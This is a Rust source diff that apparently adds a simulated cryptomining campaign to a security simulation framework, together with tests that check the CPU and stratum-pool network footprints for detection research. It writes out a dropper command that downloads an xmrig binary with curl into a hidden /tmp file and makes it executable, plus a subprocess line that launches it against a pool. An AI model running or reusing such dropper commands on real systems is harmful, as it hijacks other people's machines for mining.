@@ -1,0 +1,175 @@
+//! Cryptomining: resource abuse for cryptocurrency (Fig. 1/3). The
+//! host-level footprint is a dropped binary plus sustained near-100% CPU;
+//! the network footprint is a long-lived, low-volume, periodic
+//! connection to a stratum pool port.
+
+use crate::campaign::{Campaign, CampaignStep};
+use crate::AttackClass;
+use ja_kernelsim::actions::{Action, CellScript};
+use ja_netsim::addr::{ports, HostAddr};
+use ja_netsim::time::Duration;
+
+/// Mining campaign parameters.
+#[derive(Clone, Debug)]
+pub struct MiningParams {
+    /// Pool host.
+    pub pool: HostAddr,
+    /// Pool port (3333 default; TLS pools use 14444).
+    pub pool_port: u16,
+    /// Total mining duration (seconds).
+    pub duration_secs: u64,
+    /// Share-submission interval (seconds).
+    pub share_interval_secs: u64,
+    /// CPU utilization while mining (throttled miners evade CPU rules).
+    pub utilization: f64,
+    /// Drop the miner via terminal (`curl | sh`) vs notebook cell.
+    pub via_terminal: bool,
+}
+
+impl Default for MiningParams {
+    fn default() -> Self {
+        MiningParams {
+            pool: HostAddr::external(33),
+            pool_port: ports::STRATUM,
+            duration_secs: 4 * 3600,
+            share_interval_secs: 60,
+            utilization: 0.97,
+            via_terminal: true,
+        }
+    }
+}
+
+/// Build a cryptomining campaign on `server` as `user`.
+pub fn campaign(server: usize, user: &str, params: &MiningParams) -> Campaign {
+    let mut steps = Vec::new();
+    let mut t = Duration::ZERO;
+    if params.via_terminal {
+        steps.push(CampaignStep::Terminal {
+            server,
+            user: user.to_string(),
+            offset: t,
+            cmdline: "curl -s http://203.0.0.33/xmrig -o /tmp/.x && chmod +x /tmp/.x".into(),
+        });
+        t = t + Duration::from_secs(5);
+    }
+    // Launch the miner and open the pool connection.
+    steps.push(CampaignStep::Cell {
+        server,
+        user: user.to_string(),
+        offset: t,
+        script: CellScript::new(
+            "subprocess.Popen(['/tmp/.x','-o','pool:3333'])",
+            vec![
+                Action::Exec {
+                    name: "xmrig".into(),
+                    cmdline: format!("/tmp/.x -o {}:{}", params.pool, params.pool_port),
+                },
+                Action::Connect {
+                    dst: params.pool,
+                    dst_port: params.pool_port,
+                },
+                Action::SendBytes {
+                    bytes: 310, // stratum login/subscribe
+                    entropy_high: false,
+                },
+            ],
+        ),
+    });
+    t = t + Duration::from_secs(2);
+    // Mining epochs: burn CPU, submit a share each interval.
+    let epochs = (params.duration_secs / params.share_interval_secs).max(1);
+    for _ in 0..epochs {
+        steps.push(CampaignStep::Cell {
+            server,
+            user: user.to_string(),
+            offset: t,
+            script: CellScript::new(
+                "# mining epoch",
+                vec![
+                    Action::BurnCpu {
+                        wall: Duration::from_secs(params.share_interval_secs),
+                        utilization: params.utilization,
+                    },
+                    Action::SendBytes {
+                        bytes: 180, // share submission
+                        entropy_high: false,
+                    },
+                    Action::RecvBytes { bytes: 90 },
+                ],
+            ),
+        });
+        t = t + Duration::from_secs(params.share_interval_secs);
+    }
+    Campaign {
+        class: Some(AttackClass::Cryptomining),
+        name: format!("cryptomining-{user}-s{server}"),
+        steps,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::campaign::execute;
+    use ja_kernelsim::deployment::{Deployment, DeploymentSpec};
+    use ja_netsim::time::SimTime;
+
+    fn mine(duration_secs: u64) -> (Deployment, crate::campaign::ScenarioOutput, String) {
+        let mut d = Deployment::build(&DeploymentSpec::small_lab(9));
+        let user = d.owner_of(0).to_string();
+        let params = MiningParams {
+            duration_secs,
+            ..Default::default()
+        };
+        let c = campaign(0, &user, &params);
+        let out = execute(&mut d, &[(SimTime::ZERO, c)], 3);
+        (d, out, user)
+    }
+
+    #[test]
+    fn miner_process_accumulates_cpu() {
+        let (d, _out, _user) = mine(3600);
+        let miner = d.servers[0]
+            .procs
+            .all()
+            .iter()
+            .find(|p| p.name == "xmrig")
+            .expect("miner spawned");
+        // 60 epochs × 60 s × 0.97 ≈ 3492 CPU-seconds.
+        assert!((miner.cpu_secs - 3492.0).abs() < 5.0, "cpu {}", miner.cpu_secs);
+    }
+
+    #[test]
+    fn pool_flow_is_long_lived_and_low_volume() {
+        let (_d, out, _user) = mine(3600);
+        let pool_flows: Vec<_> = out
+            .trace
+            .flow_summaries()
+            .into_iter()
+            .filter(|f| f.tuple.dst_port == ports::STRATUM)
+            .collect();
+        assert_eq!(pool_flows.len(), 1);
+        let f = &pool_flows[0];
+        assert!(f.duration().as_secs_f64() > 3000.0, "dur {}", f.duration().as_secs_f64());
+        assert!(f.bytes_up < 100_000, "bytes {}", f.bytes_up);
+    }
+
+    #[test]
+    fn terminal_dropper_recorded() {
+        let (d, _out, _user) = mine(120);
+        assert!(!d.servers[0].terminals.is_empty());
+        assert_eq!(d.servers[0].terminals[0].grep("curl").len(), 1);
+    }
+
+    #[test]
+    fn share_cadence_matches_interval() {
+        let (_d, out, _user) = mine(600);
+        let sends: Vec<_> = out
+            .sys_events
+            .iter()
+            .filter(|e| e.class() == "net_send")
+            .collect();
+        // login + 10 shares
+        assert_eq!(sends.len(), 11);
+    }
+}
